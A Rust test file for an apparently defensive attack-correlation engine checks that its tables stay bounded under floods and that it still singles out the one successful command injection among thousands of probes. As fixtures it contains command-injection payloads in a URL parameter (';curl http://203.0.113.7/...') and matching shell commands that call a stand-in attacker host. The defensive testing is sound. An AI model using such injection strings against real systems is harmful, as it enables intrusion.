//! Floods and lies: everything stays bounded, and what matters is not pushed out.

use crate::correlate::Config;
use crate::incident::Severity;
use crate::request::{AttackClass, Indicator};

use super::build::*;

fn small() -> Config {
    Config { edge_requests: 256, workloads: 20, ordinary_requests: 64, ..Config::default() }
}

#[test]
fn ten_thousand_probes_around_do_not_hide_the_one_that_worked() {
    for exploit_first in [true, false] {
        let mut run = Run::with(small());
        if exploit_first {
            run.feed(injection(0.0));
        }
        for n in 0..10_000_u32 {
            run.feed(probe(f64::from(n) * 0.05 - 250.0, n));
        }
        full_chain().into_iter().skip(usize::from(exploit_first)).for_each(|input| run.feed(input));
        let incident = run.only();
        assert_eq!(incident.severity, Severity::Critical);
        assert!(incident.candidates.best().is_some_and(|best| best.request.url.contains("curl")));
    }
}

#[test]
fn a_spray_of_the_same_exploit_names_the_one_in_flight_with_its_echo() {
    let mut run = Run::with(small());
    for n in 0..10_000_u32 {
        let indicator = Indicator::Command(format!("curl http://203.0.113.7/{n}"));
        let sprayed = Line {
            verdict: Some(verdict(AttackClass::Cmdi, 90, vec![indicator])),
            ..line(f64::from(n) * 0.05 - 250.0, &format!("/ping?host=;curl%20http://203.0.113.7/{n}"))
        };
        run.feed(sprayed);
        if n == 5002 {
            run.feed(shell(0.15, "ping ;curl http://203.0.113.7/5002"));
            run.feed(egress(0.3, "203.0.113.7:80"));
        }
    }
    let incident = run.only();
    let best = incident.candidates.best().expect("a request");
    assert!(best.request.url.ends_with("/5002"), "{}: {}", best.request.url, best.reason);
}

#[test]
fn a_probe_on_a_sprayed_site_adds_next_to_nothing() {
    let mut run = Run::new();
    for n in 0..20_000_u32 {
        let sprayed = Line { status: 200, ..probe(f64::from(n) * 0.3 - 3000.0, n) };
        run.feed(sprayed);
    }
    run.feed(shell(0.15, "./run"));
    run.feed(egress(0.3, "203.0.113.7:80"));
    let incident = run.only();
    assert!(incident.provisional, "{:?}", incident.contributions);
    assert!(incident.severity <= Severity::High);
}

#[test]
fn tables_stay_within_their_bounds() {
    let mut run = Run::with(small());
    for n in 0..3000_u32 {
        let name = format!("w{}", n % 40);
        let class = [AttackClass::Cmdi, AttackClass::Sqli, AttackClass::Ssti][n as usize % 3];
        let sprayed = Line {
            workload: workload(&name),
            verdict: Some(verdict(class, 90, Vec::new())),
            ..line(f64::from(n), &format!("/?n={n}"))
        };
        run.feed(sprayed);
    }
    run.advance(3000.0);
    assert!(run.engine.sites.len() <= 20);
    let kept: usize = run.engine.sites.values().map(|site| site.edge.len()).sum();
    assert!(kept <= 256, "{kept}");
    assert!(run.engine.host_edge.len() <= 256);
    let counters = run.engine.counters();
    assert!(counters.workloads_evicted > 0 && counters.edge_evicted > 0, "{counters:?}");
}

#[test]
fn a_storm_of_shells_keeps_the_first_and_counts_the_rest() {
    let mut run = Run::of(full_chain());
    for n in 0..2000_u32 {
        let seconds = 1.0 + f64::from(n) * 0.01;
        run.feed(crate::evidence::HostEvidence {
            place: below(&[(1000 + n, "/usr/bin/dash", "sh -c true")]),
            ..shell(seconds, "true")
        });
    }
    run.advance(7200.0);
    let incident = run.only();
    assert_eq!(incident.first_seen, at(0.0));
    assert!(incident.timeline_omitted > 1500, "{}", incident.timeline_omitted);
    assert!(incident.timeline.len() <= 40 && incident.processes.nodes.len() <= 48);
}

#[test]
fn times_from_nowhere_are_refused() {
    let mut run = Run::new();
    run.advance(0.0);
    run.feed(Line { received: 9e8, completed: 9e8, ..injection(0.0) });
    run.feed(Line { received: -9e8, completed: 9e8, ..injection(0.0) });
    run.feed(shell(9e8, "id"));
    let counters = run.engine.counters();
    assert_eq!((counters.edge_out_of_bounds, counters.observations_out_of_bounds), (2, 1));
    // A line that never ends is in flight for ever, and so says nothing.
    run.feed(Line { completed: 9e8, ..injection(-3000.0) });
    run.feed(shell(0.1, "./run"));
    run.feed(egress(0.2, "203.0.113.99:80"));
    assert!(run.only().provisional || run.only().severity < Severity::Critical);
}
